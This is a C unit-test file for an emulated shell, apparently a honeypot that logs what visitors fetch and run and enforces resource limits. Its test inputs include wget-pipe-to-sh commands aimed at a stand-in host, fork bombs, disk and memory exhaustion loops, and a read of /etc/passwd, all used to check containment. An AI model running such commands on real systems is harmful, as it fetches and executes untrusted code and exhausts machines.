/* A session as its owner sees it: bytes in, turns, bytes out, and the world asked through its hook. */
#include "shell/test-machine.h"

#include <string.h>

static struct machine *machine;
static struct shell_device *device;

struct world {
    struct shell *shell;
    struct buf out, err;
    int64_t now;
    /* The hook. */
    enum fetch_answer answer;
    const char *content;
    unsigned fetches, runs;
    char url[200], path[200], ran[200];
    bool made, foreign;
    char told[1000];
};

static void output(void *context, int stream, const void *data, size_t n)
{
    struct world *w = context;
    buf_put(stream == 2 ? &w->err : &w->out, data, n);
}

static void fetch(void *context, const struct shell_fetch *what, struct shell_fetched *ret)
{
    struct world *w = context;
    w->fetches++;
    snprintf(w->url, sizeof w->url, "%s", what->url);
    *ret = (struct shell_fetched){ .answer = w->answer, .content = w->content,
                                   .n = w->content ? strlen(w->content) : 0 };
}

static void ran(void *context, const struct shell_ran *what)
{
    struct world *w = context;
    w->runs++;
    w->made = what->made;
    w->foreign = what->foreign;
    snprintf(w->path, sizeof w->path, "%s", what->path);
    snprintf(w->ran, sizeof w->ran, "%.*s", (int)what->n, (const char *)what->content);
}

/* What the world was told, a line each. */
static void told_command(void *context, const char *text, size_t n)
{
    struct world *w = context;
    size_t len = strlen(w->told);
    snprintf(w->told + len, sizeof w->told - len, "command %.*s\n", (int)n, text);
}

static void told_status(void *context, int value)
{
    struct world *w = context;
    size_t len = strlen(w->told);
    snprintf(w->told + len, sizeof w->told - len, "status %d\n", value);
}

static void told_unknown(void *context, const char *name)
{
    struct world *w = context;
    size_t len = strlen(w->told);
    snprintf(w->told + len, sizeof w->told - len, "unknown %s\n", name);
}

static struct shell_options options(struct world *w)
{
    *w = (struct world){ .now = INT64_C(1700000000000000), .answer = FETCH_UNREACHABLE };
    buf_init(&w->out, 1 << 20);
    buf_init(&w->err, 1 << 20);
    return (struct shell_options){ .device = device, .name = "sh", .now = w->now, .seed = 1,
                                   .hook = { .context = w, .output = output, .fetch = fetch, .ran = ran, .command = told_command, .status = told_status, .unknown = told_unknown } };
}

static void release(struct world *w)
{
    shell_free(w->shell);
    buf_release(&w->out);
    buf_release(&w->err);
}

/* Turns until nobody has anything to do; time passes where somebody sleeps. */
static enum shell_state run_on(struct world *w, int64_t steps)
{
    enum shell_state state;
    for (int turns = 0; turns < 10000000; turns++) {
        state = shell_run(w->shell, steps, w->now);
        if (state == SHELL_ASLEEP)
            w->now = shell_wakes(w->shell);
        else if (state != SHELL_RUNNING)
            return state;
    }
    fail_msg("it does not end");
    return SHELL_ENDED;
}

static void command(struct world *w, const char *text, const struct shell_limits *limits)
{
    struct shell_options o = options(w);
    o.command = text;
    if (limits)
        o.limits = *limits;
    assert_int_equal(shell_make(&w->shell, &o), 0);
}

static void type(struct world *w, const char *s)
{
    assert_int_equal(shell_input(w->shell, s, strlen(s)), 0);
}

static void says(const struct buf *b, const char *s)
{
    assert_int_equal(b->len, strlen(s));
    assert_memory_equal(b->data, s, b->len);
}

/* ---- */

static void test_command(void **state)
{
    (void)state;
    struct world w;
    command(&w, "echo a; echo b >&2; exit 3", NULL);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    assert_int_equal(shell_status(w.shell), 3);
    says(&w.out, "a\n");
    says(&w.err, "b\n");
    release(&w);
}

static void test_terminal(void **state)
{
    (void)state;
    struct world w;
    struct shell_options o = options(&w);
    o.terminal = true;
    assert_int_equal(shell_make(&w.shell, &o), 0);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_INPUT);
    buf_reset(&w.out);
    buf_reset(&w.err);
    type(&w, "if true\nthen ec");
    assert_int_equal(run_on(&w, 1 << 20), SHELL_INPUT);
    says(&w.err, "> ");
    type(&w, "ho yes; fi\n");
    assert_int_equal(run_on(&w, 1 << 20), SHELL_INPUT);
    says(&w.out, "yes\n");
    type(&w, "sleep 100\n");
    assert_int_equal(shell_run(w.shell, 1 << 20, w.now), SHELL_ASLEEP);
    type(&w, "\003");
    assert_int_equal(shell_run(w.shell, 1 << 20, w.now), SHELL_INPUT);
    buf_reset(&w.out);
    type(&w, "echo $?\n\004");
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    assert_true(w.out.len >= 4 && !memcmp(w.out.data, "130\n", 4));
    release(&w);
}

/* Idle at its prompt, and after one small file (issue's figures: 1.5 kB and 8 kB). */
static void test_idle(void **state)
{
    (void)state;
    struct world w;
    struct shell_options o = options(&w);
    o.terminal = true;
    assert_int_equal(shell_make(&w.shell, &o), 0);
    run_on(&w, 1 << 20);
    assert_true(shell_memory(w.shell) <= 1536);
    type(&w, "cd /tmp; echo hello >x\n");
    run_on(&w, 1 << 20);
    assert_true(shell_memory(w.shell) <= 8192);
    release(&w);
}

static void test_fetch(void **state)
{
    (void)state;
    struct world w;
    command(&w, "wget -q -O - http://192.0.2.1/x.sh | sh; wget -q http://192.0.2.1/f; sh f", NULL);
    w.answer = FETCH_PENDING;
    assert_int_equal(run_on(&w, 1 << 20), SHELL_FETCHING);
    assert_string_equal(w.url, "http://192.0.2.1/x.sh");
    w.answer = FETCH_FOUND;
    w.content = "echo fetched\n";
    shell_wake(w.shell);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    says(&w.out, "fetched\nfetched\n");
    release(&w);
}

/* What is run is told with its bytes, and whether the visitor made it or fetched it. */
static void test_ran(void **state)
{
    (void)state;
    struct world w;
    command(&w, "cd /tmp; printf '\\177ELF\\1\\1\\1zzzzzzzzzzz\\1\\0rest' >x; chmod 755 x; ./x a; echo $?", NULL);
    run_on(&w, 1 << 20);
    assert_int_equal(w.runs, 1);
    assert_string_equal(w.path, "./x");
    assert_true(w.made);
    assert_memory_equal(w.ran, "\177ELF", 4);
    release(&w);

    command(&w, "cd /tmp; wget -q http://192.0.2.1/x; chmod 755 x; ./x; echo $?", NULL);
    w.answer = FETCH_FOUND;
    w.content = "echo script";
    run_on(&w, 1 << 20);
    assert_int_equal(w.runs, 1);
    assert_false(w.made);
    says(&w.out, "script\n0\n");
    release(&w);
}

/* ---- limits ---- */

static void ends(const char *text, struct shell_limits limits)
{
    struct world w;
    command(&w, text, &limits);
    assert_int_equal(run_on(&w, 1 << 20), SHELL_ENDED);
    assert_true(shell_memory(w.shell) <= limits.memory + 65536);
    release(&w);
}

static void test_told(void **state)
{
    static const char typed[] = "echo a; nosuch\r\r# none\rif true\rthen (exit 3)\rfi\rbusybox ECCHI\recho )\rexit 4\r";
    struct world w;
    struct shell_options o = options(&w);
    (void)state;
    o.terminal = o.tty = true;
    assert_int_equal(shell_make(&w.shell, &o), 0);
    assert_int_equal(run_on(&w, 100000), SHELL_INPUT);
    assert_int_equal(shell_input(w.shell, typed, sizeof typed - 1), 0);
    assert_int_equal(run_on(&w, 100000), SHELL_ENDED);
    assert_string_equal(w.told, "command echo a; nosuch\nunknown nosuch\nstatus 127\n"
                                "command if true\nthen (exit 3)\nfi\nstatus 3\n"
                                "command busybox ECCHI\nunknown ECCHI\nstatus 127\n"
                                "command echo )\nstatus 2\ncommand exit 4\nstatus 4\n");
    release(&w);
}

static void test_limits(void **state)
{
    (void)state;
    struct shell_limits limits = { .memory = 1 << 20, .steps = 3000000, .output = 1 << 20, .processes = 20 };
    static const char *const scripts[] = {
        "while :; do :; done",
        "f() { f; }; f",
        "f() { f | f & }; f; wait",
        "f() { (f); }; f",
        "x=x; while :; do x=$x$x; done",
        "yes",
        "yes | cat | cat >/dev/null",
        "set -- x; while :; do set -- \"$@\" \"$@\"; done",
        "eval() { :; }; while :; do eval \"$(cat /bin/busybox)\"; done",
        "x='eval \"$x\"'; eval \"$x\"",
        "i=0; while :; do i=$((i+1)); echo >/tmp/$i; done",
        "while :; do cat /dev/zero; done | head -c 100000000 >/tmp/x",
        "cat /dev/zero >/tmp/x",
        "alias a='a a'; a",
        "echo 'sh $0' >/tmp/x; sh /tmp/x",
        "trap 'kill -USR1 $$' USR1; kill -USR1 $$; while :; do :; done",
        "while :; do sleep 1000000; done",
        "cd /tmp; while mkdir d && cd d; do :; done",
        "printf '%1000000000d' 1",
        "echo $(yes)",
        "case $(head -c 60000 /dev/zero | tr '\\0' a) in *a*a*a*a*a*a*a*a*a*b) ;; esac",
        "echo ${x:-${x:-${x:-${x:-$(echo $(echo $(echo $(echo))))}}}}",
        "ls /*/*/*/*/../../../*/*/*/../../../*/*/*/../../../*/*/*",
    };
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++)
        ends(scripts[i], limits);
}

/* Any budget gives the same. */
static void test_budget(void **state)
{
    (void)state;
    static const char text[] = "for i in 1 2 3; do echo $i | cat; (echo sub $i; foo) & done; wait; cat /etc/passwd | while read x; do echo $x; done\n"
                               "f() { local a=$(echo $1; echo err >&2); echo $a; }; f x | tee /tmp/y; cat /tmp/y; yes | head -n 3; echo $$ $!";
    struct world whole, steps;
    command(&whole, text, NULL);
    run_on(&whole, 1 << 30);
    for (int64_t budget = 1; budget < 100; budget *= 7) {
        command(&steps, text, NULL);
        run_on(&steps, budget);
        assert_int_equal(steps.out.len, whole.out.len);
        assert_memory_equal(steps.out.data, whole.out.data, whole.out.len);
        assert_int_equal(steps.err.len, whole.err.len);
        assert_memory_equal(steps.err.data, whole.err.data, whole.err.len);
        assert_int_equal(shell_status(steps.shell), shell_status(whole.shell));
        release(&steps);
    }
    release(&whole);
}

static int set_up(void **state)
{
    (void)state;
    return test_machine(&machine) || shell_device_make(&device, machine);
}

static int tear_down(void **state)
{
    (void)state;
    shell_device_free(device);
    machine_free(machine);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_command), cmocka_unit_test(test_terminal), cmocka_unit_test(test_idle),
        cmocka_unit_test(test_fetch),   cmocka_unit_test(test_ran),      cmocka_unit_test(test_limits),
        cmocka_unit_test(test_budget),  cmocka_unit_test(test_told),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
